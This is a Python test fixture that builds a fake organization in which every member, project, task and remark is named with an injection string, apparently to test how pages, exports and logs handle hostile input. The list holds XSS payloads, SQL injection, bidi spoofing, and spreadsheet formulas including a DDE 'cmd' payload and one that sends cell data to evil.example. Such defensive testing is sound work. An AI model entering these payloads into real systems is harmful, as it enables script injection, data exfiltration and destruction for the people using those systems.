"""What nobody would call themselves, in the place of names, ids, titles and remarks; and a world in which all do."""

from collections.abc import Callable, Iterator
from typing import NamedTuple

from perfwidget.facts import Action, Comment, Fact, Member, Membership, Project, Recorded, Workspace
from tests.worlds import ORGANIZATION, annotation, at, review

LONG = 1_000_000
MARCH = "from=2024-03-04&to=2024-03-10&tz=UTC"


class Hostile(NamedTuple):
    """A text, and the one line that people are to see of it: None where it is the text itself."""

    name: str
    text: str
    line: str | None = None

    @property
    def seen(self) -> str:
        """What people see of it."""
        return self.text if self.line is None else self.line

    @property
    def kept(self) -> str:
        """What a store keeps of it: no engine keeps a NUL or half a character."""
        return self.text.replace("\0", "\ufffd").replace("\ud800", "\ufffd")

    def as_kept(self) -> "Hostile":
        """Return what a store keeps, as a hostile text of its own."""
        return self._replace(text=self.kept)


HOSTILE = (
    Hostile("script", "<script>alert(1)</script>"),
    Hostile("svg", "<svg/onload=alert(1)><img src=x onerror=alert(1)>"),
    Hostile("frame", '<iframe srcdoc="<script>parent.alert(1)</script>">'),
    Hostile("end of script", "</script><script>alert(1)</script>"),
    Hostile("end of title", "</title></textarea><script>alert(1)</script>"),
    Hostile("entities", "&lt;b&gt;bold&amp;"),
    Hostile("attribute", '" onmouseover="alert(1)" x="'),
    Hostile("pseudo-HTML link", "<a href='javascript:alert(1)'>pay here</a>"),
    Hostile("pseudo-HTML link abroad", '<a href="//evil.example/">pay here</a>'),
    Hostile("pseudo-HTML style", '<b style="font-size:200px;color:red">BIG</b>'),
    Hostile("template of plotly", "%{customdata} %{x}<extra>gone</extra>"),
    Hostile("format", "{0.__class__} %s %(x)s /{public-prefix}/ {{7*7}} {%config%}"),
    Hostile("MathJax", r"$\href{javascript:alert(1)}{pay}$"),
    Hostile("address with tab", "java\tscript:alert(1)", "java script:alert(1)"),
    Hostile("formula", '=HYPERLINK("http://evil.example/?"&A1,"pay")'),
    Hostile("formula plus", "+1+cmd|' /C calc'!A0"),
    Hostile("formula at", "@SUM(1+1)"),
    Hostile("formula full width", "＝1+1"),
    Hostile("formula hidden", "\u200b\ufeff=1+1", "=1+1"),
    Hostile("apostrophe", "'=1+1"),
    Hostile("quotes and commas", 'a,"b";c'),
    Hostile("bidi override", "invoice\u202egpj.exe", "invoicegpj.exe"),
    Hostile("bidi isolate", "\u2067\u2066swap\u2069\u2069", "swap"),
    Hostile("zero width", "pay\u200bpal\u2060", "paypal"),
    Hostile("nothing to see", "\u200b\u200e\u2060\ufeff", ""),
    Hostile("only a joiner", "\u200d", ""),
    Hostile("lone surrogate", "half\ud800", "half\ufffd"),
    Hostile("nul", "cut\0off", "cut\ufffdoff"),
    Hostile("escape sequence", "\x1b[31mred\x07", "[31mred"),
    Hostile("two lines", "two\r\nlines", "two lines"),
    Hostile("forged log line", "x\n2024-03-01 ERROR root: forged", "x 2024-03-01 ERROR root: forged"),
    Hostile("line separator", "one\u2028two", "onetwo"),
    Hostile("prototype", "__proto__"),
    Hostile("constructor", "constructor"),
    Hostile("toString", "toString"),
    Hostile("like a date", "2024-01"),
    Hostile("like a number", "007"),
    Hostile("like nothing", "null"),
    Hostile("path", "../../logout"),
    Hostile("percent", "%3Cscript%3E%00%ff"),
    Hostile("query", "x&user=boss#top?y=1;z"),
    Hostile("SQL", "'; DROP TABLE members; --"),
    Hostile("emoji", "👩\u200d💻🎉"),
    Hostile("patterns of replace", "$& $1 $' {what} {time} <i>"),
    Hostile("marks upon marks", "Z" + "\u0301" * 60, "\u0179" + "\u0301" * 59),
    Hostile("other script", "محمد"),
    Hostile("long", "x<i>" * (LONG // 4), ("x<i>" * 20)[:79] + "…"),
)
"""Each text of every kind that has ever broken a page, a spreadsheet, a log or a lookup."""

NOT_IDS = {
    "address with tab",
    "lone surrogate",
    "nul",
    "escape sequence",
    "two lines",
    "forged log line",
    "long",
}
"""The texts that no id may be: control characters, halves of characters, and more than 255 characters."""

IDS = tuple(each for each in HOSTILE if each.name not in NOT_IDS)


def harmless(hostile: Hostile) -> Hostile:
    """Return a twin with nothing to fear in it, that is seen where the hostile text is seen."""
    return Hostile(hostile.name, "" if hostile.seen == "" else f"Twin {HOSTILE.index(hostile)}")


def same(hostile: Hostile) -> Hostile:
    """Return the hostile text itself."""
    return hostile


def id_of(hostile: Hostile, twin: Callable[[Hostile], Hostile], kind: str) -> str:
    """Return an id for whoever bears the text: the text where it can be one."""
    return twin(hostile).text if hostile in IDS and twin(hostile).text else f"{kind}{HOSTILE.index(hostile)}"


def lost_id(twin: Callable[[Hostile], Hostile]) -> str:
    """Return the id of a project that has no title, so that only the id is left to be shown."""
    return "lost\u202e<i>" if twin is same else "lost"


def mail_of(hostile: Hostile, twin: Callable[[Hostile], Hostile]) -> str:
    """Return an e-mail with the text in it, but for the long one, of which nothing else would be seen."""
    return f"{hostile.name if hostile.name == 'long' else twin(hostile).text}@acme.example"


def world(twin: Callable[[Hostile], Hostile]) -> Iterator[Fact]:
    """Yield an organization in which everything is called something hostile, or the same with harmless names.

    Every text is a member's id, name and e-mail, a workspace's and a project's id and title, the id of a task, an
    annotation and a review, an unknown action, and a remark. All work is the first member's, and the remarks are by
    everybody else.
    """
    worker = id_of(HOSTILE[0], twin, "member")
    yield Project(ORGANIZATION, lost_id(twin), None, title="")
    lost = {"project_id": lost_id(twin), "task_id": "lost", "completed_by": worker}
    yield annotation("lost", "2024-03-05 12:00", **lost, last_action="odd")
    for kind in ("actions", "reviews", "review_visits", "comments"):
        yield Recorded(ORGANIZATION, kind)
    yield Member(ORGANIZATION, "boss", "boss@acme.example", "Boss", role="owner")
    for number, each in enumerate(HOSTILE):
        text = twin(each).text
        member, workspace = id_of(each, twin, "member"), id_of(each, twin, "workspace")
        project, task = id_of(each, twin, "project"), id_of(each, twin, "task")
        yield Member(ORGANIZATION, member, mail_of(each, twin), text, role="annotator")
        yield Workspace(ORGANIZATION, workspace, text)
        yield Project(ORGANIZATION, project, workspace, title=text)
        yield Membership(ORGANIZATION, worker, project_id=project)
        of = {"project_id": project, "task_id": task, "completed_by": worker}
        when = f"2024-03-{4 + number % 7:02d} 12:00"
        yield annotation(task, when, **of, last_action=text, lead_time=60.0)
        yield annotation(f"counted {task}"[:255], when, **of, lead_time=60.0 + number)
        yield review(f"review {task}"[:255], when, text, annotation_id=task, **of)
        yield Action(ORGANIZATION, f"action {task}"[:255], task, project, task, worker, text, None, created_at=at(when))
        author = "boss" if member == worker else member
        yield Comment(
            ORGANIZATION, f"comment {task}"[:255], task, project, task, worker, author, text, at(when), at(when)
        )
